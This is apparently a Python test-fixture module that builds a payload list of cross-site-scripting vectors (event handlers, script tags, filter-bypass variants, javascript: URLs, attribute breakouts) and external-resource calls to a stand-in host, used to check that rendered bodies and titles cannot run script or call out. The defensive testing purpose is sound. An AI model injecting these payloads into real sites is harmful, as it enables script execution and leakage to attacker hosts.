"""Bodies and titles that try to run a script, to call out or to break out of where they are shown.

`HIT` says so on the browser's console; it needs no quote, so that it fits into any attribute.
"""

from __future__ import annotations

SAID = "hit-by-a-script"
HIT = f"console.error(/{SAID}/.source)"
#: Handlers that fire by themselves on one of these elements, or could after the next change of a browser.
_EVENTS = (
    "onload", "onerror", "onfocus", "ontoggle", "onstart", "onanimationstart", "onanimationend", "ontransitionend", "onscroll",
    "onpageshow", "onresize", "onmouseover", "onpointerenter", "onbeforeinput", "onloadstart", "oncanplay", "onplay",
    "onbegin", "onend", "onrepeat", "onfocusin", "onblur", "oncontentvisibilityautostatechange", "onbeforematch",
)  # fmt: skip
_ELEMENTS = (
    "<img src=x {}>", "<svg {}></svg>", "<body {}>", "<input autofocus {}>", "<details open {}><summary>x</summary>y</details>",
    "<video src=x autoplay {}></video>",
)  # fmt: skip
_HANDLERS = [element.format(f"{event}={HIT}") for event in _EVENTS for element in _ELEMENTS]

_SCRIPTS = [
    f"<script>{HIT}</script>", f"<SCRIPT>{HIT}</SCRIPT>", f"<script/x>{HIT}</script>", f"<scr<script>ipt>{HIT}</script>",
    f"<script type=module>{HIT}</script>", "<script src=http://EVIL/a.js></script>", "<script async src=//EVIL/b.js></script>",
    f"<svg><script>{HIT}</script></svg>", "<svg><script href=http://EVIL/c.js /></svg>", f"<math><script>{HIT}</script></math>",
    f"<!--><script>{HIT}</script>-->", f"<![CDATA[<script>{HIT}</script>]]>", f"<noscript><p title=\"</noscript><img src=x onerror={HIT}>\">",
    f"<textarea></textarea><script>{HIT}</script>", f"<title></title><script>{HIT}</script>", f"</pre><script>{HIT}</script>",
    f"</iframe><script>{HIT}</script>", f"\"><script>{HIT}</script>", f"'><script>{HIT}</script>", f"</textarea><img src=x onerror={HIT}>",
    f"\" onload=\"{HIT}", f"' autofocus onfocus='{HIT}", f"<script>\u2028{HIT}</script>", f"<\x0bscript>{HIT}</script>",
    f"<iframe src=javascript:{HIT}></iframe>", f"<iframe srcdoc='<script>{HIT}</script>'></iframe>",
    f"<iframe src='data:text/html,<script>{HIT}</script>'></iframe>", "<iframe src=http://EVIL/frame></iframe>",
    f"<object data=javascript:{HIT}></object>", "<object data=http://EVIL/o></object>", "<embed src=http://EVIL/e>",
    f"<embed src=javascript:{HIT}>", f"<a href=javascript:{HIT} id=x autofocus>x</a>", f"<form action=javascript:{HIT}><button autofocus>x</button></form>",
    f"<svg><a xlink:href=javascript:{HIT}><text y=20>x</text></a></svg>", f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{HIT}></svg>", f"<isindex type=image src=x onerror={HIT}>",
    f"<xml onreadystatechange={HIT}>", f"<marquee onstart={HIT}>x</marquee>", f"<select autofocus onfocus={HIT}><option>x</select>",
    f"<div style='width:expression({HIT})'>x</div>", f"<style>@keyframes a{{}}p{{animation:a}}</style><p onanimationstart={HIT}>x</p>",
    f"<template><script>{HIT}</script></template>", f"<img src=`x` onerror={HIT}>", f"<img/src/onerror={HIT}>",
    f"<p id=x tabindex=1 autofocus onfocus={HIT}>x</p>", "{{ 7|add:7 }}{% csrf_token %}", "{% load static %}<img src=x>",
    f"&lt;script&gt;{HIT}&lt;/script&gt;", f"&#60;script&#62;{HIT}&#60;/script&#62;", f"<svg onload&#61;{HIT}>",
]  # fmt: skip

_CALLS = [
    "<img src=http://EVIL/1.gif>", "<img srcset='http://EVIL/2.gif 1x'>", "<picture><source srcset=http://EVIL/3.gif><img src=x></picture>",
    "<link rel=stylesheet href=http://EVIL/4.css>", "<link rel=preconnect href=http://EVIL>", "<LINK rel=preconnect href=http://EVIL>",
    "<link rel=dns-prefetch href=//evil.example>", "<link rel=prefetch href=http://EVIL/5>", "<link rel=preload as=image href=http://EVIL/6>",
    "<link rel=modulepreload href=http://EVIL/7.js>", "<link rel=icon href=http://EVIL/8.ico>", "<link rel=manifest href=http://EVIL/9>",
    "<li<link>nk rel=preconnect href=http://EVIL>", "<link title='>' rel=preconnect href=http://EVIL>", "<style>@import 'http://EVIL/10.css';</style>",
    "<style>body{background:url(http://EVIL/11.gif)}</style>", "<p style='background:url(//EVIL/12.gif)'>x</p>",
    "<style>@font-face{font-family:a;src:url(http://EVIL/13.woff)}p{font-family:a}</style><p>x</p>", "<table background=http://EVIL/14.gif><tr><td>x</table>",
    "<video poster=http://EVIL/15.gif></video>", "<video src=http://EVIL/16.mp4 autoplay></video>", "<audio src=http://EVIL/17.mp3 autoplay></audio>",
    "<input type=image src=http://EVIL/18.gif>", "<svg><image href=http://EVIL/19.gif /></svg>", "<svg><use href=http://EVIL/20.svg#a /></svg>",
    "<meta http-equiv=refresh content='0;url=http://EVIL/21'>", "<meta http-equiv=refresh content='0;url=javascript:1'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\"><img src=http://EVIL/22.gif>", "<base href=http://EVIL/><img src=23.gif>",
    "<base target=_top><a href=http://EVIL/24>x</a>", "<form action=http://EVIL/25 method=post><input name=a></form>",
    "<a href=http://EVIL/26 ping=http://EVIL/27>x</a>", "<frameset><frame src=http://EVIL/28></frameset>", "<portal src=http://EVIL/29></portal>",
    "<fencedframe src=http://EVIL/30></fencedframe>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"http://EVIL/31\"]}]}</script>",
    "<svg><filter><feImage href=http://EVIL/32.gif /></filter></svg>", "<p style=\"list-style:url(http://EVIL/33.gif);cursor:url(http://EVIL/34.cur),auto\">x</p>",
    "<track src=http://EVIL/35.vtt>", "<bgsound src=http://EVIL/36.wav>", "<img src=http://EVIL/37.gif loading=eager fetchpriority=high>",
]  # fmt: skip


def payloads(evil: str) -> list[str]:
    """Every payload, each once; `evil` is the host and port that must never be called."""
    return [text.replace("EVIL", evil) for text in dict.fromkeys([*_HANDLERS, *_SCRIPTS, *_CALLS])]
